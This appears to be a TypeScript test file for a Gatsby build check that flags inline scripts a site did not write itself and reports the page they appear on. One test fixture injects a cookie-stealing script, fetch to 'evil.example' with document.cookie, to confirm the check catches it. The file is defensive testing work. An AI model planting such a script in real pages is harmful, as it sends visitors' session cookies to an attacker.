// Issue 25, F11: the build fails on any inline script the site does not write itself
// (gatsby/inline-scripts-check.ts, run first in onPostBuild), naming the page.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import { startInlineScriptCheck, strayInlineScripts } from '../../../gatsby/inline-scripts-check';
import { unbuiltReviewMarkerScript } from '../../../src/review/unbuilt';
import { UNBUILT_MARKER_ID, inlineScripts } from '../../../src/site-inline-scripts';
import { inlineScriptHashes } from '../../../publish/site-policy';

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'inline-scripts-'));
after(() => fs.rmSync(root, { recursive: true, force: true }));

const own =
  '<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/1/2/";/*]]>*/</script>' +
  '<script id="gatsby-chunk-mapping">/*<![CDATA[*/window.___chunkMapping="{}";/*]]>*/</script>' +
  '<script type="application/ld+json">{"@type":"Review"}</script><script src="/review/app.js"></script>';

function site(name: string, pages: Record<string, string>): string {
  const dir = path.join(root, name, 'public');
  for (const [rel, html] of Object.entries(pages)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), html);
  }
  return dir;
}

/** Runs the onPostBuild check over `dir`; the reporter's panics are returned. */
async function postBuild(dir: string): Promise<string[]> {
  const panics: string[] = [];
  await startInlineScriptCheck(dir)({ panicOnBuild: (m: string) => void panics.push(m) });
  return panics;
}

test("a build of the site's own scripts passes", async () => {
  const dir = site('clean', {
    'index.html': `<html><head>${own}</head><body></body></html>`,
    '404.html': `<html><head><script id="${UNBUILT_MARKER_ID}">${unbuiltReviewMarkerScript()}</script>${own}</head></html>`,
    '1/2/index.html': `<html><head>${own}</head></html>`,
  });
  assert.deepEqual(await strayInlineScripts(dir), []);
  assert.deepEqual(await postBuild(dir), []);
});

test('one injected inline script fails the build and names its page', async () => {
  const dir = site('injected', {
    'index.html': `<html><head>${own}</head></html>`,
    '1/2/index.html': `<html><head>${own}</head><body><p>好评</p><script>fetch("//evil.example/"+document.cookie)</script></body></html>`,
  });
  const stray = await strayInlineScripts(dir);
  assert.deepEqual(
    stray.map((s) => s.file),
    [path.join('1', '2', 'index.html')],
  );
  const panics = await postBuild(dir);
  assert.equal(panics.length, 1);
  assert.match(panics[0], /1\/2\/index\.html.*evil\.example/);
});

test("a page's bytes give the same scripts as its text, non-ASCII bodies included", () => {
  const html =
    `<html><head><script id="${UNBUILT_MARKER_ID}">${unbuiltReviewMarkerScript()}</script>${own}</head>` +
    '<body><p>好评 ✓</p><SCRIPT type="text/javascript" id="注入">alert("评价")</SCRIPT></body></html>';
  const fromText = inlineScripts(html);
  const fromBytes = inlineScripts(Buffer.from(html, 'utf8'));
  assert.deepEqual(fromBytes, fromText);
  assert.deepEqual(
    fromBytes.map((s) => [s.id, s.known]),
    [
      [UNBUILT_MARKER_ID, true],
      ['gatsby-script-loader', true],
      ['gatsby-chunk-mapping', true],
      ['注入', false],
    ],
  );
  assert.equal(fromBytes[3].body, 'alert("评价")');
  // The policy hashes the same UTF-8 bytes either way.
  assert.deepEqual(inlineScriptHashes(Buffer.from(html, 'utf8')), inlineScriptHashes(html));
});
